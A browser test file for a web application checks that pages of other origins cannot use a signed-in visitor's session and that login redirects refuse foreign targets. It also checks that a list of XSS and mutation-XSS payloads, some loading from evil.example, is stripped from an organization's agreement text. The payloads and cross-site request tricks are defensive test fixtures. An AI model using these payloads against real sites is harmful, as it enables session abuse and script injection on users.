import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { acceptedCase } from './accepted-case.ts';
import { FOREIGN_TARGETS, OWN_TARGETS } from '../harness/redirects.ts';
import { enter, expect, goWithin, signIn, test } from './fixtures.ts';

/** What a page of another origin tries with its visitor's cookie; it writes what came of each into its list. */
const PAGE = (target: string) => `<!doctype html><title>A page</title><ul id="came"></ul>
<iframe id="framed" src="${target}/login"></iframe>
<script>
const target = ${JSON.stringify(target)};
const came = (what, how) => {
  const row = document.createElement('li');
  row.textContent = what + ': ' + how;
  document.getElementById('came').append(row);
};
const json = { 'content-type': 'application/json' };
const letter = JSON.stringify({ name: 'x', email: 'x@evil.example', reason: 'other', message: 'By another page' });
const tries = [
  ['read', '/api/v1/users/current_user', {}],
  ['read with a profile', '/api/v1/users/current_user', { headers: { 'x-profile-type': 'admin', 'x-profile-id': '1' } }],
  ['end the session', '/api/v1/user/logout', { method: 'DELETE' }],
  ['end the other sessions', '/api/v1/account/sessions', { method: 'DELETE' }],
  ['change the name', '/api/v1/users', { method: 'PUT', headers: json, body: '{}' }],
  ['write as JSON', '/api/v1/contact', { method: 'POST', headers: json, body: letter }],
  ['write as text', '/api/v1/contact', { method: 'POST', headers: { 'content-type': 'text/plain' }, body: letter }],
  ['write without looking', '/api/v1/contact', { method: 'POST', mode: 'no-cors', body: letter }],
  ['continue', '/api/v1/user/session/keep', { method: 'POST', mode: 'no-cors' }],
  ['sign somebody in', '/api/v1/user/login', { method: 'POST', mode: 'no-cors', body: '{"email":"a@b.example","password":"x"}' }],
];
const listen = () => new Promise((done) => {
  const socket = new WebSocket(target.replace('http', 'ws') + '/live/?EIO=4&transport=websocket');
  socket.onopen = () => done('heard');
  socket.onerror = () => done('refused');
});
(async () => {
  for (const [what, path, more] of tries) {
    try {
      const answer = await fetch(target + path, { credentials: 'include', ...more });
      came(what, answer.type === 'opaque' ? 'answered' : 'read ' + answer.status);
    } catch { came(what, 'refused'); }
  }
  came('beacon', navigator.sendBeacon(target + '/api/v1/contact', new Blob([letter], { type: 'text/plain' })) ? 'sent' : 'refused');
  came('listen', await listen());
  document.title = 'Done';
})();
</script>
<form id="form" method="post" enctype="text/plain" action="${target}/api/v1/contact">
  <input name='{"name":"x","email":"x@evil.example","reason":"other","message":"By a form","pad":"' value='"}'>
</form>`;

/** A site on this machine that is not ours: by our name at another port, or by another name. */
async function foreignSite(name: string, target: string) {
  const site = createServer((_, response) => {
    response.setHeader('content-type', 'text/html').end(PAGE(target));
  });
  await new Promise<void>((resolve) => site.listen(0, '127.0.0.1', resolve));
  return {
    url: `http://${name}:${(site.address() as AddressInfo).port}`,
    close: () => {
      site.closeAllConnections();
      site.close();
    },
  };
}

for (const [name, which] of [
  ['127.0.0.1', 'the same site at another port'],
  ['localhost', 'another site'],
] as const) {
  test(`a page of ${which} does nothing with its visitor’s session and reads nothing`, async ({ browser, server }) => {
    const dana = await server.world.person({
      profile: 'ClaimConsultant',
      organization_id: await server.world.organization(),
    });
    const db = server.database.systemDb;
    const messages = () => db.selectFrom('contact_messages').select('id').orderBy('id').execute();
    const before = await messages();
    const site = await foreignSite(name, server.url);
    const context = await browser.newContext();
    try {
      await enter(context, server, dana);
      const page = await context.newPage();
      await page.goto(site.url);
      await expect(page).toHaveTitle('Done');
      expect(await page.getByRole('listitem').allTextContents()).toEqual([
        'read: refused',
        'read with a profile: refused',
        'end the session: refused',
        'end the other sessions: refused',
        'change the name: refused',
        'write as JSON: refused',
        'write as text: refused',
        'write without looking: refused',
        'continue: refused',
        'sign somebody in: refused',
        'beacon: sent',
        'listen: refused',
      ]);
      // our pages are shown in nobody's frame
      expect(page.frames().map((frame) => frame.url())).not.toContain(`${server.url}/login`);
      const answered = page.waitForResponse(`${server.url}/api/v1/contact`);
      await page.evaluate("document.getElementById('form').submit()");
      expect((await answered).status()).toBe(403);
      await expect(page.getByText('cross_site')).toBeVisible();

      expect(await messages()).toEqual(before);
      const actions = await db
        .selectFrom('audit_rows')
        .select('action')
        .where('actor_user_id', '=', dana.user_id)
        .execute();
      expect(actions).toEqual([]);
      // the same from a page of ours is taken: it was the origin
      await page.goto(`${server.url}/contact`);
      expect(
        await page.evaluate("fetch('/api/v1/user/session/keep', { method: 'POST' }).then((answer) => answer.status)"),
      ).toBe(204);
    } finally {
      await context.close();
      site.close();
    }
  });
}

test('no link leads from signing in to another site', async ({ person, server }) => {
  const dana = await server.world.person({
    profile: 'ClaimConsultant',
    organization_id: await server.world.organization(),
  });
  const browser = await person();
  browser.allow(401, 410);
  await signIn(browser, dana);
  const { page } = browser;
  for (const target of FOREIGN_TARGETS) {
    // signed in already: the page is left at once
    await page.goto(`/login?redirectUrl=${encodeURIComponent(target)}`, { waitUntil: 'commit' });
    await expect(page, target).toHaveURL(`${server.url}/cases`);
  }
  const verify = (target: string) => `/verify?redirectUrl=${encodeURIComponent(target)}`;
  const goOn = page.getByRole('link', { name: 'Continue' });
  await page.goto(verify(FOREIGN_TARGETS[0] ?? ''));
  await expect(goOn).toHaveAttribute('href', '/');
  // each after a page of ours, so that the link seen is never the one before
  for (const [at, target] of FOREIGN_TARGETS.entries()) {
    const own = OWN_TARGETS[at % OWN_TARGETS.length] ?? '';
    await goWithin(page, verify(own));
    await expect(goOn, own).toHaveAttribute('href', own);
    await goWithin(page, verify(target));
    await expect(goOn, target).toHaveAttribute('href', '/');
  }
});

/** Ways to run something, to load something or to take the page over, from within formatted text. */
const MARKUP: readonly string[] = [
  '<script>window.ran=1</script>',
  '<scr<script>ipt>window.ran=1</scr</script>ipt>',
  '<img src=x onerror="window.ran=1">',
  '<svg onload="window.ran=1"><animate onbegin="window.ran=1" attributeName=x dur=1s></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>window.ran=1</script></svg>#x"></use></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.ran=1&gt;">',
  '<noscript><p title="</noscript><img src=x onerror=window.ran=1>"></noscript>',
  '<details open ontoggle="window.ran=1"><summary>More</summary></details>',
  '<iframe srcdoc="<script>parent.ran=1</script>"></iframe>',
  '<object data="javascript:window.ran=1"></object><embed src="javascript:window.ran=1">',
  '<a class=trap href="javascript:window.ran=1">one</a>',
  '<a class=trap href=" jav&#x09;ascript:window.ran=1">two</a>',
  '<a class=trap href="data:text/html,<script>window.ran=1</script>">three</a>',
  '<a class=trap xlink:href="javascript:window.ran=1">four</a>',
  '<form action="https://evil.example"><input name=password><button>Sign in</button></form>',
  '<button formaction="javascript:window.ran=1">five</button>',
  '<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '<link rel=stylesheet href="https://evil.example/x.css"><style>@import "https://evil.example/y.css"; body{display:none}</style>',
  '<p style="position:fixed;inset:0;background:url(https://evil.example/z.png)">six</p>',
  '<video poster="https://evil.example/p.png" src="https://evil.example/v"></video><audio src="https://evil.example/a" autoplay></audio>',
  '<p id=main name=cookie class=x>seven</p><a id=defaultView name=defaultView>eight</a>',
  '<template><img src=x onerror="window.ran=1"></template><dialog open>nine</dialog>',
  '<body onload="window.ran=1" background="https://evil.example/b.png">ten',
  '<p onclick="window.ran=1" onmouseover="window.ran=1" onfocus="window.ran=1" tabindex=0 autofocus>eleven</p>',
];

/** What the agreement's text may keep. */
const SHOWN_ATTRIBUTES = ['href', 'title', 'open'];
const NOT_SHOWN =
  'script, img, svg, math, iframe, object, embed, form, input, button, base, meta, link, style, video, audio, template, noscript, dialog, area, map';

test('nothing an organization writes into its agreement runs, loads or takes the page over', async ({
  browser,
  server,
}) => {
  const organization_id = await server.world.organization();
  const dana = await server.world.person({ profile: 'ClaimConsultant', organization_id });
  const context = await browser.newContext();
  const elsewhere: string[] = [];
  context.on('request', (request) => {
    if (!request.url().startsWith(server.url) && !/^(?:data|blob|about):/.test(request.url()))
      elsewhere.push(request.url());
  });
  try {
    await enter(context, server, dana);
    const page = await context.newPage();
    await page.addInitScript("window.addEventListener('unhandledrejection', () => { window.ran = 2; })");
    for (const [n, markup] of MARKUP.entries()) {
      const eula = `<h2>Terms of use ${n}</h2>${markup}<p>Be fair.</p>`;
      await server.database.systemDb
        .updateTable('organizations')
        .set({ eula, eula_updated_at: new Date(server.now().getTime() + 1000) })
        .where('id', '=', organization_id)
        .execute();
      await page.goto(`${server.url}/cases`);
      const text = page.getByRole('dialog').getByRole('region');
      await expect(text.getByRole('heading', { name: `Terms of use ${n}` })).toBeVisible();
      // the API hands it out as it was written: showing it is what has to be safe
      expect(
        await page.evaluate(
          "fetch('/api/v1/users/current_user').then(async (r) => (await r.json()).organization.eula)",
        ),
      ).toBe(eula);
      await expect(text.locator(NOT_SHOWN), markup).toHaveCount(0);
      const attributes = await text
        .locator('*')
        .evaluateAll((all) =>
          (all as unknown as { getAttributeNames(): string[] }[]).flatMap((one) => one.getAttributeNames()),
        );
      expect(
        attributes.filter((name) => !SHOWN_ATTRIBUTES.includes(name)),
        markup,
      ).toEqual([]);
      for (const link of await text.locator('[href]').all())
        expect(await link.getAttribute('href'), markup).toMatch(/^(?:https?:|mailto:|#)/);
      for (const trap of await text.locator('a, p, summary').all()) await trap.dispatchEvent('click');
      expect(await page.evaluate('window.ran'), markup).toBeUndefined();
      await expect(page.getByRole('button', { name: 'Accept' })).toBeVisible();
      expect(page.url(), markup).toBe(`${server.url}/cases`);
    }
    expect(elsewhere).toEqual([]);
  } finally {
    await context.close();
  }
});

test('text becomes no markup by itself, nothing is evaluated, and our own pages try neither', async ({
  person,
  server,
}) => {
  const { cast, d } = await acceptedCase(server);
  await d.to('timeChosen');
  await server.advance({ days: 2 });
  await d.to('reportStarted');
  const erin = await person();
  const { page } = erin;
  // the record is a row without its content: it is told as damaged
  erin.allow(500);
  await page.addInitScript(`
    globalThis.violations = [];
    document.addEventListener('securitypolicyviolation', (e) => violations.push(e.effectiveDirective + ' ' + e.blockedURI));`);
  await signIn(erin, cast.expert, `${d.url().replace('/api/v1/cases', '/case')}/report`);
  await expect(page.getByRole('textbox').first()).toBeVisible();
  expect(await page.evaluate('violations')).toEqual([]);

  const tried = async (what: string) =>
    page.evaluate<string>(`(() => { try { ${what}; return 'done'; } catch (error) { return error.name; } })()`);
  page.removeAllListeners('console');
  expect(await tried("document.createElement('div').innerHTML = '<b>x</b>'")).toBe('TypeError');
  expect(await tried("document.createElement('script').src = 'https://evil.example/x.js'")).toBe('TypeError');
  expect(await tried("new Worker('https://evil.example/x.js')")).toBe('TypeError');
  expect(await tried("new Worker('data:text/javascript,0')")).toBe('TypeError');
  expect(await tried("trustedTypes.createPolicy('mine', {})")).toBe('TypeError');
});
